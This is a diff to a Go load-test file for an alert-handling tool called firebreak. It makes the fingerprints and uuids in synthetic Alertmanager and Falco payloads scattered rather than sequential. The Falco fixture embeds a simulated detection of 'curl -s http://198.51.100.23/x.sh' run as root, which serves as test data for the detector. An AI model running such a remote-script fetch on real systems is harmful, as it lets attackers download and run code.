@@ -29,6 +29,7 @@ import (
 	"github.com/firebreak/firebreak/engine"
 	"github.com/firebreak/firebreak/engine/audit"
 	"github.com/firebreak/firebreak/engine/state"
+	"github.com/firebreak/firebreak/internal/loadid"
 	"github.com/firebreak/firebreak/playbooks"
 	"github.com/firebreak/firebreak/store"
 	"github.com/firebreak/firebreak/web"
@@ -41,10 +42,11 @@ func (nopEngine) Notify()                   {}
 func (nopEngine) Playbooks() *playbooks.Set { return nil }
 
 // payload returns a one-alert Alertmanager body with a distinct
-// fingerprint, so idempotency absorbs nothing.
+// fingerprint, so idempotency absorbs nothing; fingerprints and uuids are
+// scattered (internal/loadid), as the hashes real senders send are.
 func payload(i int64) []byte {
 	return []byte(fmt.Sprintf(`{"version":"4","status":"firing","receiver":"fb","groupKey":"g","alerts":[{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}]}`,
-		i, time.Now().UTC().Format(time.RFC3339Nano), i))
+		i, time.Now().UTC().Format(time.RFC3339Nano), loadid.Scatter(uint64(i), 64)))
 }
 
 // groupPayload returns an Alertmanager body grouping ten alerts, as
@@ -54,15 +56,15 @@ func groupPayload(i int64) []byte {
 	at := time.Now().UTC().Format(time.RFC3339Nano)
 	var alerts []string
 	for k := range int64(10) {
-		alerts = append(alerts, fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}`, i*10+k, at, i*10+k))
+		alerts = append(alerts, fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}`, i*10+k, at, loadid.Scatter(uint64(i*10+k), 64)))
 	}
 	return []byte(`{"version":"4","status":"firing","receiver":"fb","groupKey":"{}:{alertname=\"KubePodCrashLooping\", namespace=\"shop\"}","groupLabels":{"alertname":"KubePodCrashLooping","namespace":"shop"},"alerts":[` + strings.Join(alerts, ",") + `]}`)
 }
 
 // falcoPayload returns a falcosidekick body with a distinct uuid.
 func falcoPayload(i int64) []byte {
-	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-9c1a-%012d","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
-		i, time.Now().UTC().Format(time.RFC3339Nano)))
+	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-9c1a-%012x","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
+		loadid.Scatter(uint64(i), 48), time.Now().UTC().Format(time.RFC3339Nano)))
 }
 
 // load posts b.N bodies from the given number of concurrent clients and
